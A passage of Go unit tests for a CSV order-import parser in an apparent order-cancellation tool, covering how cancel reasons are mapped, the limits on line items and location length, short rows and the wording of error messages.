			"#1,2026-03-01 09:00,2026-03-02 09:00 ,FRAUD,1,A,1\n#2,2026-03-01 09:00,2026-03-02 09:00,changed mind,1,A,1\n#3,2026-03-01 09:00,,customer,1,A,1\n"
		res := parse(t, csv, Options{})
		var got []canceldesk.CancelReason
		for _, o := range res.Orders {
			got = append(got, o.CancelReason)
		}
		want := []canceldesk.CancelReason{canceldesk.ReasonFraud, canceldesk.ReasonOther, ""}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("reasons = %q, want %q", got, want)
		}
	})
	lines := func(n int) string {
		rows := []string{good1}
		for i := 2; i <= n; i++ {
			rows = append(rows, fmt.Sprintf("Item %d,#2001,1.00,1,,,,,,,,", i))
		}
		return mini(append(rows, good2)...)
	}
	t.Run("1000 line items are accepted", func(t *testing.T) {
		res := parse(t, lines(MaxLineItems), Options{})
		if len(res.Errors) != 0 || len(res.Orders[0].LineItems) != MaxLineItems {
			t.Errorf("errors %q", errorStrings(res.Errors))
		}
	})
	t.Run("1001 line items drop the order", func(t *testing.T) {
		res := parse(t, lines(MaxLineItems+1), Options{})
		want := []string{"row 1002 (#2001): the order has more than 1000 line items, the most Cancel Desk imports for one order"}
		if got := errorStrings(res.Errors); !reflect.DeepEqual(got, want) || res.SkippedRows != MaxLineItems+1 {
			t.Errorf("errors %q, skipped %d", got, res.SkippedRows)
		}
		if got := orderNames(res.Orders); !reflect.DeepEqual(got, []string{"#2002"}) {
			t.Errorf("orders %q", got)
		}
	})
	t.Run("rows with fewer cells than the header read as empty", func(t *testing.T) {
		res := parse(t, mini("Tea,#2001,4.50,1,2026-03-01 09:00"), Options{})
		if len(res.Errors) != 0 || res.Orders[0].Currency != "USD" || res.Orders[0].Source != "web" {
			t.Errorf("errors %q", errorStrings(res.Errors))
		}
	})
	t.Run("RowError without an order says only the row", func(t *testing.T) {
		if got := (RowError{Row: 7, Reason: "x"}).Error(); got != "row 7: x" {
			t.Errorf("got %q", got)
		}
		if got := (RowError{Row: 7, Order: "#1003", Reason: "x"}).Error(); got != "row 7 (#1003): x" {
			t.Errorf("got %q", got)
		}
	})
}

func TestParseLocation(t *testing.T) {
	const header = "Name,Lineitem name,Lineitem price,Lineitem quantity,Created at,Location\n"
	t.Run("the first row's Location is the order's, trimmed", func(t *testing.T) {
		res := parse(t, header+
			"#3001,Tea,4.50,1,2026-03-01 09:00:00 -0500,  Taipei Warehouse \n"+
			"#3001,Cake,3.00,1,,Somewhere else\n"+
			"#3002,Cake,3.00,2,2026-03-02 09:00:00 -0500,\n", Options{})
		if len(res.Errors) != 0 {
			t.Fatalf("errors %q", errorStrings(res.Errors))
		}
		if got := []string{res.Orders[0].Location, res.Orders[1].Location}; !reflect.DeepEqual(got, []string{"Taipei Warehouse", ""}) {
			t.Errorf("locations %q", got)
		}
	})
	t.Run("Shopify's export names the POS order's location", func(t *testing.T) {
		res := parse(t, shopifyExport, Options{})
		for _, o := range res.Orders {
			want := ""
			if o.Name == "#1003" {
				want = "Tokyo Store"
			}
			if o.Location != want {
				t.Errorf("%s: Location %q, want %q", o.Name, o.Location, want)
			}
		}
	})
	t.Run("a Location over 100 characters drops the order", func(t *testing.T) {
		res := parse(t, header+"#3003,Tea,4.50,1,2026-03-01 09:00:00 -0500,"+strings.Repeat("倉", canceldesk.MaxLocationName+1)+"\n", Options{})
		want := []string{"row 2 (#3003): Location is longer than 100 characters"}
		if got := errorStrings(res.Errors); !reflect.DeepEqual(got, want) || len(res.Orders) != 0 {
			t.Errorf("errors %q, orders %d", got, len(res.Orders))
		}
	})
}
